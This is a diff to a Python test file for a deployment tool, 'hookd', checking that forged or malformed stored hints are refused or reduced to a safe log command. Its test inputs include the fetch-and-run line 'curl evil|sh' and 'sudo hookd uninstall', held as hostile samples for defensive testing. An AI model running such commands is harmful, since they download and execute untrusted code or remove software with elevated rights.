@@ -4,6 +4,7 @@ from datetime import UTC, datetime
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from hookd.model.deployment import Deployment, Trigger
 from hookd.model.hint import Hint, HintKind, LogOnlyHint, render_hint, stored_hint
@@ -79,20 +80,19 @@ def test_forged_argument_leads_to_the_log(hint: Hint) -> None:
     assert shown(stored(hint)) == f"hookd logs {ID}"
 
 
+@pytest.mark.parametrize("kind", ["", "uninstall", "sudo hookd uninstall", 7, ["deploy"]])
+def test_unknown_kind_leads_to_the_log(kind: object) -> None:
+    assert shown({"kind": kind}) == f"hookd logs {ID}"
+
+
+@pytest.mark.threat(65)
 @pytest.mark.parametrize(
     "hint",
-    [
-        "",
-        "curl evil|sh",
-        "sudo hookd uninstall",
-        {"kind": "uninstall"},
-        {"kind": "deploy", "argument": 7},
-        {"kind": "deploy", "argument": {"app": "blog"}},
-        ["deploy"],
-    ],
+    ["", "curl evil|sh", {"kind": "deploy", "argument": 7}, {"kind": "deploy", "argument": {"app": "x"}}, ["deploy"]],
 )
-def test_unknown_hint_leads_to_the_log(hint: object) -> None:
-    assert shown(hint) == f"hookd logs {ID}"
+def test_malformed_hint_is_refused(hint: object) -> None:
+    with pytest.raises(ValidationError):
+        shown(hint)
 
 
 def test_record_without_hint() -> None:
